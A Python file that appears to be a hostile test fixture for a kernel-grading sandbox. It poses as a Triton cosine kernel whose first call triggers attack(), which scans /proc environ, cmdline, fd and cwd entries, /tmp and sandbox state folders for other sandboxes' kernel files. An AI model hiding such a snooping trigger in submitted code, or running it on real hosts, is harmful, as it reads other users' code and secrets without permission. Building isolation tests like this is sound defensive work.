"""Hostile: look for other sandboxes' kernels for a few seconds: through /proc (cwd, root, environ, cmdline,
open files), through the host's temp folders, and through the sandbox state folder."""
import glob
import os
import time

import torch
import triton
import triton.language as tl

MARKER = __MARKER_REVERSED__[::-1]  # not in its own source: it must find the victim's


def attack():
    deadline = time.time() + float(os.environ.get("SNOOP_SECONDS", "4"))
    seen = set()
    while time.time() < deadline:
        paths = glob.glob("/proc/*/cwd/candidate_kernel.py") + glob.glob("/proc/*/root/sandbox/candidate_kernel.py")
        paths += glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/fd/*")
        paths += glob.glob("/tmp/**/candidate_kernel.py", recursive=True) + glob.glob("/tmp/kgb-*/**", recursive=True)
        paths += glob.glob("/run/kgb-sandbox/**", recursive=True) + glob.glob("/sandbox/../*/candidate_kernel.py")
        for path in paths:
            try:
                with open(path, "rb") as handle:
                    data = handle.read(1 << 20)
            except OSError:
                continue
            if MARKER.encode() in data and path not in seen:
                seen.add(path)
                print("LEAK", path)
        time.sleep(0.05)
    print("PROCS", sorted(entry for entry in os.listdir("/proc") if entry.isdigit()))


@triton.jit
def cos_kernel(x_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n
    x = tl.load(x_ptr + offsets, mask=mask).to(tl.float32)
    tl.store(out_ptr + offsets, tl.cos(x).to(out_ptr.dtype.element_ty), mask=mask)


_ATTACKED = []


def cos(x):
    if not _ATTACKED:
        _ATTACKED.append(True)
        attack()
    x = x.contiguous()
    out = torch.empty_like(x)
    n = x.numel()
    cos_kernel[(triton.cdiv(max(n, 1), 256),)](x, out, n, BLOCK=256)
    return out


def cos_out(x, *, out):
    out.copy_(cos(x))
    return out
